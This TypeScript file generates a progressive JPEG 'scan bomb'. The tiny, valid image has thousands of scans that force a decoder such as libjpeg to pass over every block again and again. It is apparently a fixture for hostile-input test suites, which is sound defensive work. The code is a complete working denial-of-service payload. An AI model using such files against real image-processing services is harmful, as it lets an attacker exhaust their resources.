/**
 * A progressive JPEG "scan bomb", written byte by byte: a valid file of a few kilobytes per hundred
 * scans whose decoding costs one pass over every 8x8 block per scan. Each AC scan codes one
 * coefficient of every block as zero with a handful of end-of-band runs (about 30 bytes a scan), so
 * the decoder does the work while the file stays tiny. Used by the hostile-input suites; nothing
 * here is shipped.
 */

class BitWriter {
  private readonly bytes: number[] = [];
  private current = 0;
  private used = 0;

  write(value: number, length: number): void {
    for (let i = length - 1; i >= 0; i--) {
      this.current = (this.current << 1) | ((value >> i) & 1);
      if (++this.used === 8) this.flushByte();
    }
  }

  /** Pads the last byte with 1-bits, as the standard asks, and returns the stuffed bytes. */
  finish(): number[] {
    if (this.used > 0) this.write(0xff, 8 - this.used);
    return this.bytes;
  }

  private flushByte(): void {
    this.bytes.push(this.current);
    if (this.current === 0xff) this.bytes.push(0x00); // byte stuffing
    this.current = 0;
    this.used = 0;
  }
}

const segment = (marker: number, body: number[]): number[] => [0xff, marker, ((body.length + 2) >> 8) & 0xff, (body.length + 2) & 0xff, ...body];

/** A Huffman table with one symbol, coded as the single bit 0. */
const dcTable = (): number[] => segment(0xc4, [0x00, 1, ...new Array<number>(15).fill(0), 0x00]);

export interface ScanBomb {
  bytes: Uint8Array;
  scans: number;
}

/** A grayscale progressive JPEG of `width` x `height` (multiples of 8) with one DC scan and `acScans` AC scans. */
export function progressiveScanBomb(width = 4000, height = 4000, acScans = 9_999): ScanBomb {
  if (width % 8 || height % 8) throw new Error('width and height must be multiples of 8');
  const blocks = (width / 8) * (height / 8);
  const out: number[] = [0xff, 0xd8];
  out.push(...segment(0xdb, [0x00, ...new Array<number>(64).fill(1)])); // quantisation table 0: all ones
  out.push(...segment(0xc2, [8, height >> 8, height & 0xff, width >> 8, width & 0xff, 1, 1, 0x11, 0])); // SOF2, one component
  out.push(...dcTable()); // DC table: "difference 0" as the single bit 0
  // DC first scan, full precision: one 0-bit per block.
  out.push(...segment(0xda, [1, 1, 0x00, 0, 0, 0x00]));
  const dc = new BitWriter();
  for (let i = 0; i < blocks; i++) dc.write(0, 1);
  for (const byte of dc.finish()) out.push(byte); // spread would overflow the stack for large images

  const { table, data } = endOfBandRuns(blocks);
  out.push(...table);
  // Ah = 0, Al = 0: each scan codes its coefficient at full precision. libjpeg accepts the same
  // coefficient coded again without a warning, so the count is free.
  for (let i = 0; i < acScans; i++) {
    const k = 1 + (i % 63);
    out.push(...segment(0xda, [1, 1, 0x00, k, k, 0x00]), ...data);
  }
  out.push(0xff, 0xd9);
  return { bytes: Uint8Array.from(out), scans: acScans + 1 };
}

/**
 * The AC table and the entropy-coded data of one scan in which every block is an end of band: runs
 * of at most 32767 blocks, coded as EOBr symbols (r<<4) with r extra bits. Two run lengths at most
 * (the full ones and the rest), so the table has two symbols, coded "0" and "10".
 */
function endOfBandRuns(blocks: number): { table: number[]; data: number[] } {
  const runs: number[] = [];
  for (let left = blocks; left > 0; left -= Math.min(left, 32767)) runs.push(Math.min(left, 32767));
  const symbols = [...new Set(runs.map((run) => Math.floor(Math.log2(run))))].sort((a, b) => a - b);
  const counts = new Array<number>(16).fill(0);
  counts[0] = 1;
  if (symbols.length > 1) counts[1] = 1;
  const table = segment(0xc4, [0x10, ...counts, ...symbols.map((r) => r << 4)]);
  const bits = new BitWriter();
  for (const run of runs) {
    const r = Math.floor(Math.log2(run));
    if (symbols.indexOf(r) === 0) bits.write(0, 1);
    else bits.write(0b10, 2);
    bits.write(run - (1 << r), r);
  }
  return { table, data: bits.finish() };
}
